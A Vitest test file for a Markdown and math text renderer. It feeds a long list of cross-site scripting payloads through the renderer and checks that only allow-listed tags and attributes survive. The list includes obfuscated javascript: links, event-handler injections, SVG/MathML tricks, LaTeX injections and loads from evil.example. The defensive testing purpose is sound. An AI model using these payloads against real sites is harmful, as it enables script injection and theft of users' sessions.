import axe from 'axe-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createRenderer, prepare, type Renderer } from '#lib/text/renderer.ts';
import '#lib/text/text.css';

const labels = { copy: 'Copy', copied: 'Copied', code: 'Code', table: 'Table', formula: 'Formula' };

/** Texts that would run, load or restyle something if any part of the way trusted them. */
const HOSTILE = [
	'<script>window.pwned=1</script>',
	'<ScRiPt src=//evil.example/x.js></sCrIpT>',
	'<img src=x onerror="window.pwned=1">',
	'<img/src="x"/onerror=window.pwned=1//',
	'<svg onload=window.pwned=1><animate onbegin=window.pwned=1></svg>',
	'<svg><script>window.pwned=1</script></svg>',
	'<svg><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>',
	'<math><mtext><table><mglyph><style><img src onerror=window.pwned=1></style></mglyph></table></mtext></math>',
	'<math href="javascript:window.pwned=1">x</math>',
	'<iframe src="javascript:parent.pwned=1"></iframe>',
	'<iframe srcdoc="<script>parent.pwned=1</script>">',
	'<object data="javascript:window.pwned=1"></object><embed src="javascript:window.pwned=1">',
	'<body onload=window.pwned=1><details open ontoggle=window.pwned=1>',
	'<input autofocus onfocus=window.pwned=1><video><source onerror=window.pwned=1></video>',
	'<a href="javascript:window.pwned=1">x</a>',
	'<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
	'<p style="position:fixed;inset:0;background:url(//evil.example/x)">x</p>',
	'<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
	'<form action="//evil.example"><button formaction="javascript:window.pwned=1">x</button></form>',
	'<!--><script>window.pwned=1</script>-->',
	'<br onclick=window.pwned=1><br/onclick=window.pwned=1>',
	'</p></div></main><script>window.pwned=1</script>',
	'[a](javascript:window.pwned=1)',
	'[a](JaVaScRiPt:window.pwned=1)',
	'[a](  javascript:window.pwned=1  )',
	'[a](java\tscript:window.pwned=1)',
	'[a](<java\tscript:window.pwned=1>)',
	'[a](&#106;avascript:window.pwned=1)',
	'[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.pwned=1)',
	'[a](javascript&colon;window.pwned=1)',
	'[a](java&Tab;script&colon;window.pwned=1)',
	'[a](java&NewLine;script:window.pwned=1)',
	'[a](\\javascript:window.pwned=1)',
	'[a](javascript\\:window.pwned=1)',
	'[a](%6Aavascript:window.pwned=1)',
	'[a](\u0001javascript:window.pwned=1)',
	'[a](\u00a0javascript:window.pwned=1)',
	'[a](\u200bjavascript:window.pwned=1)',
	'[a](javascript://example.org/%0Awindow.pwned=1)',
	'[a](vbscript:msgbox)',
	'[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'[a](blob:https://example.org/x) [b](file:///etc/passwd) [c](filesystem:http://x) [d](view-source:http://x)',
	'[a](//evil.example/x) [b](/settings) [c](#top) [d](?q) [e](relative)',
	'[a](http://example.org/"onmouseover="window.pwned=1)',
	'[a](http://example.org "x\\" onmouseover=\\"window.pwned=1")',
	"[a](http://example.org 'title\"><script>window.pwned=1</script>')",
	'[a](<http://example.org/><script>window.pwned=1</script>)',
	'![x](javascript:window.pwned=1) ![y](https://evil.example/pixel.gif) ![z](data:image/svg+xml,<svg onload=window.pwned=1>)',
	'![x" onerror="window.pwned=1](https://example.org/x.png)',
	'[![i](https://evil.example/i.png)](javascript:window.pwned=1)',
	'<javascript:window.pwned=1> <data:text/html,x> <vbscript:x>',
	'<https://example.org/"onclick=window.pwned=1> <a@example.org?subject=x&body=%22onclick=1>',
	'javascript://example.org/%0awindow.pwned=1 http://example.org/<script>window.pwned=1</script>',
	'www.example.org"onclick="window.pwned=1',
	'[a]\n\n[a]: javascript:window.pwned=1',
	'[a]\n\n[a]: <javascript:window.pwned=1> "t"\n[A]: data:text/html,x',
	'![a][b]\n\n[b]: java\tscript:window.pwned=1',
	'[__proto__] [constructor] [toString]\n\n[__proto__]: https://example.org/\n[constructor]: https://example.org/',
	'```"><script>window.pwned=1</script>\ncode\n```',
	'```js onload=window.pwned=1\n</code></pre><img src=x onerror=window.pwned=1>\n```',
	'```html\n<script>window.pwned=1</script>\n```',
	'~~~\n```\n<script>window.pwned=1</script>',
	'``` <svg onload=window.pwned=1>\nunclosed',
	'`<img src=x onerror=window.pwned=1>` ``<script>window.pwned=1</script>',
	'| <script>window.pwned=1</script> | [a](javascript:window.pwned=1) |\n|:-:|--|\n| <img src=x onerror=window.pwned=1> | `<b>` |',
	'- [x] <img src=x onerror=window.pwned=1>\n- [ ] [a](javascript:window.pwned=1)',
	'# <script>window.pwned=1</script>\n\n> <img src=x onerror=window.pwned=1>',
	'&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;',
	'\u202e<script>window.pwned=1</script>\u202c ＜script＞ \ufeff<script\u0000>window.pwned=1</script>',
	'\ud83d<script>window.pwned=1</script>\ude00',
	'$\\href{javascript:window.pwned=1}{x}$ $\\url{javascript:window.pwned=1}$',
	'$$\\includegraphics[height=1em]{https://evil.example/x.png}$$',
	'$\\htmlStyle{background:url(//evil.example)}{x}$ $\\htmlData{onclick=window.pwned=1}{x}$ $\\style{color:red}{x}$',
	'$\\class{x" onclick="window.pwned=1}{x}$ $\\id{main}{x}$ $\\htmlId{y}{x}$',
	'\\(\\text{<script>window.pwned=1</script>}\\) \\[\\text{<img src=x onerror=window.pwned=1>}\\]',
	'$\\def\\a{\\a\\a}\\a$ $\\def\\b{\\c\\c}\\def\\c{\\b\\b}\\b$',
	'$\\color{red;background:url(//evil.example)}{x}$ $\\rule{1e9em}{1e9em}$',
	'$\\begin{equation}\\label{main}x\\end{equation}$',
	'$<img src=x onerror=window.pwned=1>$ $$</math><script>window.pwned=1</script>$$'
];

const HTML_TAGS = new Set(
	'A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR INPUT LABEL LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL'.split(
		' '
	)
);
const ATTRIBUTES = new Set(
	'aria-label checked class dir disabled href rel role start tabindex target title type'.split(' ')
);
const MATHML = 'http://www.w3.org/1998/Math/MathML';

function assertHarmless(root: Element): void {
	for (const element of root.querySelectorAll('*')) {
		const isFormula = element.closest('.text-formula') !== null && !element.matches('.text-formula, code');
		if (element.namespaceURI !== MATHML) expect(HTML_TAGS).toContain(element.tagName);
		for (const name of element.getAttributeNames()) {
			if (isFormula) expect(name).not.toMatch(/^on|href|src|^id$/i);
			else expect(ATTRIBUTES).toContain(name);
		}
		if (element instanceof HTMLAnchorElement) {
			expect(['http:', 'https:', 'mailto:']).toContain(element.protocol);
			expect([element.target, element.rel]).toEqual(['_blank', 'noopener noreferrer']);
		}
	}
}

const violations: string[] = [];
const failures: unknown[] = [];
let host: HTMLElement;
let renderer: Renderer;

function begin(): void {
	host = document.createElement('main');
	document.body.append(host);
	renderer = createRenderer(host, {
		labels,
		onCopy: async () => {},
		onFailure: (error) => failures.push(error)
	});
}

function end(): void {
	renderer.destroy();
	host.remove();
}

beforeAll(async () => {
	// what the app's policy says of attributes, images and forms; style elements are the test runner's
	const policy = document.createElement('meta');
	policy.httpEquiv = 'Content-Security-Policy';
	policy.content =
		"style-src-attr 'none'; script-src-attr 'none'; img-src 'none'; object-src 'none'; frame-src 'none'; form-action 'none'; base-uri 'none'";
	document.head.append(policy);
	document.addEventListener('securitypolicyviolation', (event) => {
		violations.push(`${event.violatedDirective}: ${event.sample || event.blockedURI}`);
	});
	await prepare();
});

afterEach(() => {
	expect(failures.splice(0)).toEqual([]);
	expect(violations.splice(0)).toEqual([]);
	expect('pwned' in window).toBe(false);
});

afterAll(() => {
	expect('pwned' in window).toBe(false);
});

describe('hostile text', () => {
	it.each(HOSTILE)('%j does nothing, wherever it is cut', async (text) => {
		begin();
		for (let cut = 1; cut <= text.length; cut++) {
			renderer.update(text.slice(0, cut), false);
			assertHarmless(host);
		}
		renderer.update(text, true);
		await renderer.settled();
		assertHarmless(host);
		const stepwise = host.cloneNode(true);
		end();
		begin();
		renderer.update(text, true);
		await renderer.settled();
		stepwise.normalize();
		host.normalize();
		expect(stepwise.isEqualNode(host)).toBe(true);
		end();
	});

	it('is harmless joined into one text', async () => {
		begin();
		renderer.update(HOSTILE.join('\n\n'), true);
		await renderer.settled();
		assertHarmless(host);
		expect(host.textContent).toContain('window.pwned');
		end();
	});
});

const RICH = [
	'## Heading\n\nText with `code`, **bold**, [a link](https://example.org), <https://example.org> and ![an image](https://example.org/x.png).',
	'- [x] done\n- [ ] not yet\n  1. nested\n  2. list',
	'> quote',
	'| name | value |\n|---|--:|\n' + '| a rather long cell that will not fit its line | 1 |\n'.repeat(3),
	'```ts\n// comment\nexport const x: Map<string, number> = new Map([["a", 1]]); ' +
		'f(1); '.repeat(60) +
		'\n```',
	'```diff\n-removed\n+added\n```',
	'```\nno language\n```',
	'Inline $\\frac{a}{b}$ and\n\n$$\n\\begin{aligned} a &= \\cancel{b} \\\\ c &= \\color{red}{d} \\end{aligned}\n$$',
	'\\[ ' + 'x + '.repeat(150) + 'y \\]',
	'中文，**重点：**后文。\n\nעברית `code` טקסט'
].join('\n\n');

describe('drawn text', () => {
	it.each(['light', 'dark'])('is without fault to axe on a %s ground', async (scheme) => {
		document.documentElement.lang = 'en';
		document.documentElement.style.colorScheme = scheme;
		document.body.style.background = scheme === 'dark' ? '#0d1117' : '#ffffff';
		document.body.style.color = scheme === 'dark' ? '#f0f6fc' : '#1f2328';
		begin();
		host.style.width = '320px';
		renderer.update(RICH, true);
		await renderer.settled();
		expect(host.querySelectorAll('math').length).toBe(3);
		expect(host.querySelectorAll('.code-keyword').length).toBeGreaterThan(0);
		const { violations: faults } = await axe.run(host, {
			rules: { 'landmark-main-is-top-level': { enabled: false }, region: { enabled: false } }
		});
		expect(faults.map(({ id, nodes }) => [id, nodes.map(({ html }) => html)])).toEqual([]);
		end();
	});

	it('lets no long line widen the page', async () => {
		begin();
		host.style.width = '320px';
		renderer.update(RICH + '\n\n' + 'x'.repeat(500) + '\n\n`' + 'y'.repeat(500) + '`', true);
		await renderer.settled();
		expect(host.scrollWidth).toBeLessThanOrEqual(320);
		end();
	});
});
